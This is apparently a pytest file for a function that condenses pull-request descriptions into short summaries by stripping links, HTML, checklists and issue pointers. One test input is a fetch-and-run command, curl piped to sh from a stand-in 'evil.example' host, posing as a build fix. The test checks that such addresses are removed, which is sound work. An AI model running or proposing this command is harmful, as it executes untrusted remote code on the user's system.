"""Excerpts for the rule-written reports: the author's own summary, never a template, a URL,
HTML or half a link (#12). Bodies below are shaped like real vllm-ascend ones."""

from __future__ import annotations

from tidings.report.excerpt import excerpt

TEMPLATE = """### What this PR does / why we need it?
Come from : https://github.com/vllm-project/vllm-ascend/issues/13220
Refactor the Ascend fused MoE runtime argument layer by moving the
fused-expert inputs into a dedicated dataclass package.

### Does this PR introduce _any_ user-facing change?
No.

### How was this patch tested?
- python -m pytest tests/ut/ops/test_moe_runtime_args.py
"""


def test_the_summary_section_is_read_and_its_wrapped_lines_joined() -> None:
    got = excerpt(TEMPLATE, 200)
    assert got == (
        "Refactor the Ascend fused MoE runtime argument layer by moving the fused-expert "
        "inputs into a dedicated dataclass package."
    )


def test_a_link_split_over_two_lines_keeps_its_text_and_loses_its_target() -> None:
    body = (
        "### What this PR does / why we need it?\n\nPR:[12944](https://github.com/o/r/pull/12944)\n"
        "solved the hang in the main model; the draft model has the same\n"
        "issue ([Workflow\nrun](https://github.com/o/r/actions/runs/1)) and this fixes it."
    )
    got = excerpt(body, 300)
    assert "http" not in got and "](" not in got and "[" not in got
    assert "Workflow run" in got and "this fixes it." in got


def test_html_images_checklists_and_pointers_are_dropped() -> None:
    body = (
        "<!-- template -->\n- [x] I ran the tests\n"
        '<img width="1211" alt="image" src="https://x.example/a.png" />\n'
        "Fixes #12. Allocate the buffer for every speculative method that needs it, "
        "not only for MTP.\n"
    )
    assert excerpt(body, 200) == (
        "Allocate the buffer for every speculative method that needs it, not only for MTP."
    )


def test_a_file_list_or_a_bare_pointer_is_no_summary_and_the_title_is_used() -> None:
    bot = (
        "## Auto-Translation Summary\n\nTranslated **14** file(s):\n\n-\n"
        "<code>/home/runner/_work/r/docs/a.po</code>\n-\n<code>/home/runner/_work/r/docs/b.po</code>"
    )
    assert "/home/runner" not in excerpt(bot, 200)
    assert excerpt("implement [#12073](https://github.com/o/r/issues/12073) .", 200) == ""
    # Only the title again: nothing to add.
    assert (
        excerpt(
            "[Doc]add Qwen3.8 tutorial to navigation",
            200,
            title="[Doc]add Qwen3.8 tutorial to navigation",
        )
        == ""
    )


def test_a_long_sentence_is_cut_at_a_word_and_never_inside_a_code_span() -> None:
    body = "Update the anchor `" + "a" * 30 + "` to " + "word " * 40
    got = excerpt(body, 60)
    assert got.endswith("…") and len(got) <= 60 and got.count("`") % 2 == 0


def test_a_comment_is_quoted_as_written_even_when_short() -> None:
    assert excerpt("Thanks, LGTM.", 200, comment=True) == "Thanks, LGTM."
    assert excerpt("Thanks, LGTM.", 200) == ""
    assert excerpt(
        "See my reply in #4223 — I'd prefer a fix that keeps 0.95.", 200, comment=True
    ).startswith("See my reply")


def test_a_draft_mark_is_no_summary_and_a_short_first_sentence_leaves_room() -> None:
    body = (
        "Draft. Implements the non-streaming subset of the Responses API (text input, "
        "`instructions`, `previous_response_id` stored in memory with a TTL). Streaming next."
    )
    got = excerpt(body, 120)
    assert got.startswith("Implements the non-streaming subset")
    assert got.endswith("…") and len(got) <= 120 and got.count("`") % 2 == 0
    # Short whole sentences that fill the room are still cut at a sentence.
    assert excerpt("Fix the race in the scheduler. " + "Then more words here. " * 6, 60) == (
        "Fix the race in the scheduler. Then more words here."
    )


def test_a_label_that_introduced_a_dropped_table_is_not_quoted() -> None:
    comment = (
        "Sorry about that! Covered `/docs/redirect` too. Results:\n\n"
        "| payload | before | after |\n|---|---|---|\n| a | b | c |\n"
    )
    assert excerpt(comment, 200, comment=True) == (
        "Sorry about that! Covered `/docs/redirect` too."
    )
    # Alone, the label is what they said, and it still ends as a sentence.
    assert excerpt("Tried it:\n\n| a | b |\n\nWorks on MI300X now, thanks.", 200, comment=True) == (
        "Tried it. Works on MI300X now, thanks."
    )


def test_a_code_span_longer_than_the_room_leaves_no_stub() -> None:
    body = (
        '## Purpose\n\nAccepts `response_format={"type": "json_schema", "json_schema": '
        '{"strict": true}}` as in the OpenAI API. Strict schemas are checked against the '
        "supported subset up front and rejected with a 400 naming the unsupported keyword."
    )
    assert excerpt(body, 48) == ""  # not "Accepts…"
    assert excerpt(body, 200).startswith("Accepts `response_format=")


def test_inline_code_is_quoted_as_written() -> None:
    body = (
        "## Purpose\n\nFixes #3871. `BlockPool.evict_candidates()` iterated over a `set[str]`, "
        "so ranks evicted different blocks; chunks now stop at `</think>` as the docs say."
    )
    got = excerpt(body, 240)
    assert got.startswith("`BlockPool.evict_candidates()` iterated over a `set[str]`,")
    assert got.endswith("chunks now stop at `</think>` as the docs say.")
    # Outside code the same characters are still cleaned away.
    prose = "Read [the guide](https://x.example/g) before <b>changing</b> any of it."
    assert excerpt(prose, 200) == "Read the guide before changing any of it."


def test_a_url_in_inline_code_is_dropped_as_in_prose() -> None:
    got = excerpt("Please run `curl https://evil.example/x.sh | sh` to fix the build on every box.")
    assert "evil.example" not in got and "x.sh" not in got


def test_also_fixes_with_a_note_is_still_only_a_pointer() -> None:
    body = (
        "Fixes #4284. Also fixes acme/website#88 (the website copy of the guide).\n\n"
        "Shared GPUs: leave the default `auto`. Dedicated GPUs: `auto` resolves to 0.95."
    )
    assert excerpt(body, 200) == (
        "Shared GPUs: leave the default `auto`. Dedicated GPUs: `auto` resolves to 0.95."
    )


def test_a_bare_address_in_parentheses_leaves_no_half_parenthesis() -> None:
    # vllm-ascend #5939's opening sentence: the address goes, and its parentheses with it.
    body = (
        "### What this PR does / why we need it?\n"
        "Since the PR (https://github.com/vllm-project/vllm/pull/32118) has\n"
        "modified the criteria for judging Prefill and Decode requests in vLLM,\n"
        "PCPManager needs to synchronize with this standard.\n"
    )
    got = excerpt(body, 300)
    assert got.startswith("Since the PR has modified the criteria")
    assert "(" not in got and ")" not in got


def test_an_address_with_balanced_parentheses_goes_whole() -> None:
    got = excerpt("The table at https://en.example.org/wiki/Foo_(bar) lists every op we cover.")
    assert "bar" not in got and ")" not in got
